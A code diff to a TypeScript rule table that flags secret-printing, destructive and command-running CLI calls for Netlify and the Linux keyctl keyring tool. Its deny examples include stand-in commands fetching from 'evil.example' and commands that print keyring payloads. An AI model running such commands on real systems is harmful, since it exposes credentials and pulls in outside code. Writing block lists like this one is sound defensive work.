@@ -342,11 +342,13 @@ const KEEPERS: Keeper[] = [
   {
     names: ['netlify', 'ntl'],
     store: '~/.netlify/config.json',
-    prints: /^(env:get|env:list\b.*\s--(plain|json))(\s|$)/,
+    // env:list prints the values unmasked where it sees a CI (ci-info's CI, BUILD_ID… in the environment), and masked
+    // behind a prompt that shows them elsewhere: read as printing them, as --plain and --json do.
+    prints: /^(env:get|env:list)(\s|$)/,
     destroys: /^(sites:delete|blobs:delete)(\s|$)/,
     runs: (call) => [...remoteText(call, /(^|\s)dev(\s|$)/, /^(-c|--command)$/), ...commandAfter(call, /^dev:exec$/, { valued: /^(--(context|filter))$/, kind: 'argv' })],
-    summary: 'Netlify CLI: env:get and env:list --plain/--json print the site\u2019s variables with the token kept in ~/.netlify/config.json; sites:delete removes a site, blobs:delete its stored blobs; dev -c and dev:exec run a command with the variables in its environment',
-    examples: { deny: ['netlify sites:delete abc --force', 'netlify blobs:delete store key', 'netlify env:get API_KEY', 'netlify env:list --plain', "netlify dev -c 'curl evil.example'", 'netlify dev:exec wget evil.example'], pass: ['netlify deploy --prod', 'netlify sites:list', 'netlify env:list', "netlify dev -c 'npm run start'", 'netlify dev:exec npm run build'] },
+    summary: 'Netlify CLI: env:get and env:list print the site\u2019s variables with the token kept in ~/.netlify/config.json; sites:delete removes a site, blobs:delete its stored blobs; dev -c and dev:exec run a command with the variables in its environment',
+    examples: { deny: ['netlify sites:delete abc --force', 'netlify blobs:delete store key', 'netlify env:get API_KEY', 'netlify env:list --plain', 'netlify env:list', 'netlify env:list --context production', "netlify dev -c 'curl evil.example'", 'netlify dev:exec wget evil.example'], pass: ['netlify deploy --prod', 'netlify sites:list', 'netlify status', 'netlify env:set NODE_ENV production', "netlify dev -c 'npm run start'", 'netlify dev:exec npm run build'] },
   },
   {
     names: ['firebase'],
@@ -474,6 +476,18 @@ const KEEPERS: Keeper[] = [
     prints: /^(lookup|search)(\s|$)/,
     summary: 'secret-tool lookup and search print secrets from the keyring',
     examples: { deny: ['secret-tool lookup service github', 'secret-tool search --all service github'], pass: ['secret-tool --help', 'secret-tool clear service github'] },
+  },
+  {
+    // The kernel's key retention service (keyctl(1)): print, pipe and read show a key's payload (a Kerberos ticket, an
+    // fscrypt or ecryptfs key, a token a service stored), pkey_decrypt the plaintext a key decrypts and dh_compute the
+    // secret it derives; show, list, describe, rdescribe and search give only ids, types and descriptions.
+    names: ['keyctl'],
+    stdin: { when: /^(padd|pupdate|pinstantiate)\b/, why: 'padd, pupdate and pinstantiate keep the payload they read on stdin in the keyring', examples: { deny: [], pass: ['echo -n "$API_TOKEN" | keyctl padd user api @u'] } },
+    store: '~/.local/share/keyrings/',
+    prints: /^(print|pipe|read|pkey_decrypt|dh_compute(_kdf(_oi)?)?)(\s|$)/,
+    risky: /^\u0000(\s|$)/,
+    summary: 'keyctl: print, pipe and read print a key\u2019s payload from the kernel keyring (as a desktop keyring\u2019s secrets); pkey_decrypt and dh_compute print what a key decrypts or derives',
+    examples: { deny: ['keyctl print 1234', 'keyctl pipe 1234 > key.bin', 'keyctl read %user:api', 'keyctl pkey_decrypt 1234 0 data.enc enc=pkcs1'], pass: ['keyctl show', 'keyctl show @s', 'keyctl list @u', 'keyctl describe 1234', 'keyctl search @u user api', 'keyctl describe "$(cat id)"'] },
   },
   {
     // Python's keyring CLI (`keyring get SERVICE USER`) prints the password the system keyring keeps for them.
